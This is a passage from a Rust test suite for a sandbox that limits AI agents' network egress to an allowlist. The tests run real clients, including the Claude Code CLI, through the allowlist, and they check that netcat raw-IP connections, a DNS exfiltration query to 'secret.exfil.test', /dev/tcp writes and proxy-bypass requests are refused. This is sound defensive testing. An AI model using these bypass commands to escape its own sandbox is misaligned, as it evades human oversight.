    // mountinfo: id, parent, device, root, mount point, ...
    let root = tables
        .lines()
        .find(|l| l.split(' ').nth(4) == Some(egress_mount_point))
        .and_then(|l| l.split(' ').nth(3))
        .unwrap_or_else(|| panic!("no {egress_mount_point} in:\n{tables}"));
    let folder = Path::new(root)
        .ancestors()
        .find(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with("agentgate-state-") && n.ends_with("-egress"))
        })
        .unwrap_or_else(|| panic!("{root}"));
    let name = folder.file_name().unwrap();
    assert!(
        !std::env::temp_dir().join(name).exists(),
        "the egress folder {name:?} outlived the run"
    );
}

#[test]
fn the_subprocess_sandbox_mount_tables_show_no_home_with_egress() {
    the_mount_tables_show_no_home("subprocess", "/.agentgate/egress");
}

#[test]
fn the_docker_sandbox_mount_tables_show_no_home_with_egress() {
    if !support::docker_ready() {
        return;
    }
    the_mount_tables_show_no_home("docker", "/.agentgate-egress.sock");
}

// ---- Through the allowlist: real clients reach allowed destinations. ----

#[test]
fn curl_through_the_proxy_and_a_client_ignoring_proxy_variables_reach_allowed_hosts() {
    let lab = Lab::new();
    let (tls, plain) = (lab.allowed.port(), lab.plain.port());
    let ran = lab.subprocess(&format!(
        "{}{}{}",
        curl("proxied", &format!("https://allowed.test:{tls}/")),
        curl(
            "ignoring",
            &format!("--noproxy '*' https://allowed.test:{tls}/")
        ),
        python(&format!(
            r#"import socket
try:
    s = socket.create_connection(("plain.test", {plain}), timeout=10)
    s.sendall(b"GET / HTTP/1.1\r\nHost: plain.test:{plain}\r\nConnection: close\r\n\r\n")
    print("transparent=" + ("reached" if b"{UPSTREAM_BODY}" in s.recv(4096) else "no"))
except OSError as e:
    print("transparent=" + type(e).__name__)"#
        )),
    ));
    ran.agent_ran();
    assert_eq!(ran.said("proxied"), "200");
    assert_eq!(ran.said("ignoring"), "200");
    assert_eq!(ran.said("transparent"), "reached");
    let seen = lab.allowed.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert!(
        seen.iter()
            .all(|s| s.sni.as_deref() == Some("allowed.test")),
        "{seen:?}"
    );
    assert_eq!(lab.plain.seen().len(), 1);
    // result.json counts the connections and bytes per destination.
    let result = ran.home.result();
    let destination = |host: &str| {
        result["egress"]["destinations"]
            .as_array()
            .and_then(|all| all.iter().find(|d| d["host"] == host))
            .unwrap_or_else(|| panic!("result.json lists no {host}: {result:#}"))
            .clone()
    };
    let allowed = destination("allowed.test");
    assert_eq!(allowed["connections"], 2, "{allowed}");
    assert!(allowed["bytesDown"].as_u64().unwrap() > 0, "{allowed}");
    assert_eq!(destination("plain.test")["connections"], 1);
}

#[test]
fn git_clone_over_https_through_the_allowlist() {
    if !git_server::git_available() {
        return;
    }
    let lab = Lab::new();
    let repos = tempfile::tempdir().unwrap();
    let repo = git_server::make_repo(repos.path(), "project");
    let git = git_server::HttpGit::start(repos.path(), None);
    let front = Upstream::tls(
        ALLOWED_IP.into(),
        &lab.ca,
        &["git.test"],
        Behind::Forward(SocketAddr::from((Ipv4Addr::LOCALHOST, git.port))),
    );
    let port = front.port();
    let dns = TestDns::start(&[("git.test", ALLOWED_IP.into())]);
    let lab = Lab { dns, ..lab };
    let ran = lab.run(
        "subprocess",
        &format!(
            "HOME=/tmp git clone -q https://git.test:{port}/project.git /tmp/clone && echo head=$(git -C /tmp/clone rev-parse HEAD)\n"
        ),
        &[format!("git.test:{port}"), format!("{ALLOWED_IP}:{port}")],
    );
    ran.agent_ran();
    assert_eq!(ran.said("head"), repo.commits[2], "{}", ran.stdout);
    assert!(front
        .seen()
        .iter()
        .all(|s| s.sni.as_deref() == Some("git.test")));
}

/// A TLS front on [`ALLOWED_IP`] for `server` under `name`, and the lab's resolver
/// knowing only that name.
fn registry_lab(name: &str, server: &support::http::Server) -> (Lab, Upstream) {
    let lab = Lab::new();
    let front = Upstream::tls(
        ALLOWED_IP.into(),
        &lab.ca,
        &[name],
        Behind::Forward(server.url().trim_start_matches("http://").parse().unwrap()),
    );
    let dns = TestDns::start(&[(name, ALLOWED_IP.into())]);
    (Lab { dns, ..lab }, front)
}

#[test]
fn pip_install_from_an_allowed_local_index() {
    let files = tempfile::tempdir().unwrap();
    let index = package_registries::pypi_index(files.path());
    let (lab, front) = registry_lab("pypi.test", &index);
    let port = front.port();
    let package = package_registries::PACKAGE;
    let module = package.replace('-', "_");
    let ran = lab.run(
        "subprocess",
        &format!(
            "HOME=/tmp python3 -m pip install -q --no-cache-dir --disable-pip-version-check --target /tmp/pylib --index-url https://pypi.test:{port}/simple/ {package} >/tmp/pip.log 2>&1; echo pip=$?; cat /tmp/pip.log\n\
             PYTHONPATH=/tmp/pylib python3 -c 'import {module}; print(\"marker=\" + {module}.MARKER)'\n"
        ),
        &[format!("pypi.test:{port}"), format!("{ALLOWED_IP}:{port}")],
    );
    ran.agent_ran();
    assert_eq!(ran.said("pip"), "0", "{}", ran.stdout);
    assert_eq!(ran.said("marker"), package_registries::INSTALLED_MARKER);
    assert!(index.requests().iter().any(|r| r.path.ends_with(".whl")));
}

#[test]
fn npm_install_from_an_allowed_local_registry() {
    let files = tempfile::tempdir().unwrap();
    let registry = package_registries::npm_registry(files.path());
    let (lab, front) = registry_lab("npm.test", &registry);
    let port = front.port();
    let package = package_registries::PACKAGE;
    let ran = lab.run(
        "subprocess",
        &format!(
            "mkdir -p /tmp/project && cd /tmp/project && echo '{{}}' > package.json\n\
             HOME=/tmp npm install --no-audit --no-fund --registry https://npm.test:{port}/ {package} >/tmp/npm.log 2>&1; echo npm=$?; cat /tmp/npm.log\n\
             echo marker=$(node -e 'console.log(require(\"{package}\"))')\n"
        ),
        &[format!("npm.test:{port}"), format!("{ALLOWED_IP}:{port}")],
    );
    ran.agent_ran();
    assert_eq!(ran.said("npm"), "0", "{}", ran.stdout);
    assert_eq!(ran.said("marker"), package_registries::INSTALLED_MARKER);
    assert!(registry.requests().iter().any(|r| r.path.ends_with(".tgz")));
}

// ---- The Docker sandbox: the main attacks and the way through, with busybox. ----

#[test]
fn docker_raw_ip_udp_and_absolute_form_are_refused_and_the_allowed_host_is_reached() {
    if !support::docker_ready() {
        return;
    }
    let lab = Lab::new();
    let denied = lab.denied.addr();
    let plain = lab.plain.port();
    let sink = UdpSink::bind(host_address(), 53);
    let ran = lab.run(
        "docker",
        &format!(
            "echo GET / | nc -w 5 {ip} {port} >/dev/null 2>&1 && echo raw=connected || echo raw=failed\n\
             nslookup secret.exfil.test {udp_ip}:{udp} >/dev/null 2>&1; echo udp=$?\n\
             http_proxy=http://127.0.0.1:3128 wget -q -O - http://denied.test:{port}/ >/dev/null 2>&1 && echo absolute=reached || echo absolute=refused\n\
             wget -q -O - http://plain.test:{plain}/ | grep -q {UPSTREAM_BODY} && echo allowed=reached || echo allowed=no\n\
             printf 'GET / HTTP/1.1\\r\\nHost: plain.test:{plain}\\r\\nConnection: close\\r\\n\\r\\n' | nc -w 5 plain.test {plain} | grep -q {UPSTREAM_BODY} && echo transparent=reached || echo transparent=no\n",
            ip = denied.ip(),
            port = denied.port(),
            udp = sink.addr().port(),
            udp_ip = sink.addr().ip(),
        ),
        &[],
    );
    ran.agent_ran();
    assert_eq!(ran.said("raw"), "failed");
    assert_eq!(ran.said("absolute"), "refused");
    assert_eq!(ran.said("allowed"), "reached", "{}", ran.stdout);
    lab.denied
        .assert_saw_nothing("docker: raw IP and absolute-form");
    assert!(sink.received().is_empty(), "{:?}", sink.received());
    assert_eq!(ran.said("transparent"), "reached", "{}", ran.stdout);
    assert_eq!(lab.plain.seen().len(), 2);
}

// ---- The real Claude Code CLI with only the Messages API allowed. ----

const API_KEY: &str = "sk-ant-api03-egress-test-key-must-not-leak-0123";

/// Runs the real Claude Code CLI (`claude-code-api`, no `baseUrl`: it calls
/// `https://api.anthropic.com`) in `provider` with `egress.allow:
/// [api.anthropic.com:443]`. The name resolves, for the proxy only, to `ip`, where a
/// TLS front with a certificate for api.anthropic.com carries the requests to the local
/// Messages server.
fn claude_code_through_the_allowlist(provider: &str, ip: Ipv4Addr) {
    let Some(clis) = clis() else {
        return;
    };
    let image = match provider {
        "docker" => {
            if !support::docker_ready() {
                return;
            }
            build_glibc_image().unwrap();
            format!("  image: {GLIBC_IMAGE}\n")
        }
        _ => String::new(),
    };
    let server = AnthropicServer::start(vec![
        Reply::bash("echo 'written through the allowlist' > NOTES.md"),
        Reply::text("Done through the allowlist."),
    ]);
    let ca = TestCa::new();
    let front = Upstream::start(
        (IpAddr::V4(ip), 443).into(),
        Some(ca.server_config(&["api.anthropic.com"])),
        Behind::Forward(server.url().trim_start_matches("http://").parse().unwrap()),
    );
    let dns = TestDns::start(&[("api.anthropic.com", ip.into())]);
    let workspace = tempfile::tempdir().unwrap();
    std::fs::write(workspace.path().join("test-ca.pem"), ca.pem()).unwrap();
    let home = Home::new();
    // The CLI folder is outside the home and temporary folders: bound by grant only.
    use_nameserver(&home, &dns, &format!("mounts: [{}]\n", clis.display()));
    let environment: String = client_ca_environment(CA_IN_SANDBOX)
        .into_iter()
        .map(|(name, value)| format!("    {name}: {value}\n"))
        .collect();
    let execution = format!(
        "workspace:\n  source: local\n  path: {}\nsandbox:\n  provider: {provider}\n{image}  network: bridge\n  egress:\n    allow: [\"api.anthropic.com:443\", \"{ip}:443\"]\n  resources:\n    timeout: 3m\n  mounts:\n    - source: {}\n      target: {CLIS_IN_SANDBOX}\n      readonly: true\n  environment:\n    PATH: {CLIS_IN_SANDBOX}/node_modules/.bin:/usr/local/bin:/usr/bin:/bin\n    SHELL: /bin/bash\n{environment}agent:\n  driver: claude-code-api\n  model: claude-sonnet-4-5\n  options:\n    maxRetries: 0\n",
        workspace.path().display(),
        clis.display(),
    );
    let path = home.dir.path().join("task.yaml");
    std::fs::write(
        &path,
        task_spec("claude-egress", "Write notes.", &execution),
    )
    .unwrap();
    let output = home.agentgate_with_env(
        &[
            "run",
            path.to_str().unwrap(),
            "--secret-env",
            "ANTHROPIC_API_KEY",
        ],
        &[("ANTHROPIC_API_KEY", API_KEY.to_string())],
    );
    assert!(
        output.status.success(),
        "{provider}: {}\nstdout.log: {}\nstderr.log: {}",
        stderr(&output),
        home.log("stdout.log"),
        home.log("stderr.log")
    );
    let notes = std::fs::read_to_string(workspace.path().join("NOTES.md")).unwrap();
    assert_eq!(notes, "written through the allowlist\n");
    assert_eq!(server.scripted_requests(), 2);
    assert_eq!(
        server.message_requests()[0].header("x-api-key"),
        Some(API_KEY)
    );
    let seen = front.seen();
    assert!(!seen.is_empty());
    assert!(
        seen.iter()
            .all(|s| s.sni.as_deref() == Some("api.anthropic.com")),
        "{seen:?}"
    );
    let result = home.result();
    assert_eq!(result["agent"]["summary"], "Done through the allowlist.");
    assert!(
        result["egress"].to_string().contains("api.anthropic.com"),
        "{result:#}"
    );
}

#[test]
fn claude_code_reaches_only_the_messages_api_in_the_subprocess_sandbox() {
    claude_code_through_the_allowlist("subprocess", Ipv4Addr::new(127, 0, 0, 21));
}

#[test]
fn claude_code_reaches_only_the_messages_api_in_docker() {
    claude_code_through_the_allowlist("docker", Ipv4Addr::new(127, 0, 0, 22));
}

// ---- The test network itself, checked on the host. ----

/// The control: without `egress`, on `network: bridge`, the raw-IP, `/dev/tcp` and raw
/// socket attacks above do reach the host's address, so their failure under the
/// allowlist is the allowlist's doing, not a target out of reach.
#[test]
fn without_egress_the_direct_attacks_reach_their_target() {
    let lab = Lab::new();
    let target = lab.denied.addr();
    let home = Home::new();
    let (ip, port) = (target.ip(), target.port());
    let script = format!(
        "echo agent-ran\n{}bash -c 'echo GET / > /dev/tcp/{ip}/{port}'\n{}exit 0\n",
        curl("direct", &format!("--noproxy '*' http://{target}/")),
        python(&format!(
            "import socket\nsocket.create_connection((\"{ip}\", {port}), timeout=5).sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\")"
        )),
    );
    let output = home.run_spec(&task_spec(
        "no-egress",
        "get out",
        &format!(
            "workspace:\n  source: local\n  path: {}\nsandbox:\n  provider: subprocess\n  network: bridge\n{}",
            lab.workspace.path().display(),
            shell_agent(&script)
        ),
    ));
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        home.log("stdout.log").contains("direct=200"),
        "{}",
        home.log("stdout.log")
    );
    assert!(
        support::eventually(10, || lab.denied.seen().len() == 3),
        "{:?}",
        lab.denied.seen()
    );
}

/// The upstreams, the CA and the registries work when nothing stands in the way, so a
/// sandboxed client that fails is refused, not broken: real curl, pip and npm on the
/// host, against IP literals the test certificates name.
#[test]
fn the_test_network_serves_real_clients_on_the_host() {
    let ca = TestCa::new();
    let files = tempfile::tempdir().unwrap();
    let ca_path = files.path().join("ca.pem");
    std::fs::write(&ca_path, ca.pem()).unwrap();
    let ip = ALLOWED_IP.to_string();

    let upstream = Upstream::tls(ALLOWED_IP.into(), &ca, &[&ip], Behind::Answer);
    let out = std::process::Command::new("curl")
        .args(["-sS", "--noproxy", "*", "--cacert"])
        .arg(&ca_path)
        .arg(format!("https://{}/", upstream.addr()))
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        UPSTREAM_BODY,
        "{}",
        stderr(&out)
    );
    assert_eq!(upstream.seen()[0].sni, None, "an IP literal sends no SNI");

    let index = package_registries::pypi_index(files.path());
    let front = Upstream::tls(
        ALLOWED_IP.into(),
        &ca,
        &[&ip],
        Behind::Forward(SocketAddr::from((Ipv4Addr::LOCALHOST, index.port()))),
    );
    let target = files.path().join("pylib");
    let out = std::process::Command::new("/usr/bin/python3")
        .args([
            "-m",
            "pip",
            "install",
            "-q",
            "--no-cache-dir",
            "--disable-pip-version-check",
            "--target",
        ])
        .arg(&target)
        .args(["--cert"])
        .arg(&ca_path)
        .args([
            "--index-url",
            &format!("https://{}/simple/", front.addr()),
            package_registries::PACKAGE,
        ])
        // This machine's own settings name the system bundle and a wheel folder.
        .env("PIP_CONFIG_FILE", "/dev/null")
        .env("REQUESTS_CA_BUNDLE", &ca_path)
        .env("PIP_CERT", &ca_path)
        .env_remove("PIP_FIND_LINKS")
        .env_remove("PIP_INDEX_URL")
        .output()
        .unwrap();
    assert!(out.status.success(), "pip: {}", stderr(&out));
    assert!(target.join("agentgate_egress_probe/__init__.py").is_file());

    let npm_files = tempfile::tempdir().unwrap();
    let registry = package_registries::npm_registry(npm_files.path());
    let front = Upstream::tls(
        ALLOWED_IP.into(),
        &ca,
        &[&ip],
        Behind::Forward(SocketAddr::from((Ipv4Addr::LOCALHOST, registry.port()))),
    );
    let project = files.path().join("project");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(project.join("package.json"), "{}").unwrap();
    let out = std::process::Command::new("npm")
        .args([
            "install",
            "--no-audit",
            "--no-fund",
            "--registry",
            &format!("https://{}/", front.addr()),
            package_registries::PACKAGE,
        ])
        .env("npm_config_cafile", &ca_path)
        .env("npm_config_cache", files.path().join("npm-cache"))
        .current_dir(&project)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "npm: {}{}",
        String::from_utf8_lossy(&out.stdout),
        stderr(&out)
    );
    assert!(project
        .join("node_modules")
        .join(package_registries::PACKAGE)
        .join("index.js")
        .is_file());

    let dns = TestDns::start(&[("allowed.test", ALLOWED_IP.into())]);
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(format!(
            r#"import socket
def ask(name):
    q = b"\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, ("127.0.0.1", {}))
    r = s.recv(512)
    return r[3] & 15, r[-4:]
print(ask("allowed.test"), ask("nowhere.test"))"#,
            dns.address().port()
        ))
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        said.trim(),
        "(0, b'\\x7f\\x00\\x00\\x07') (3, b'\\x00\\x01\\x00\\x01')",
        "{}",
        stderr(&out)
    );
    assert_eq!(dns.queries(), ["allowed.test A", "nowhere.test A"]);
}
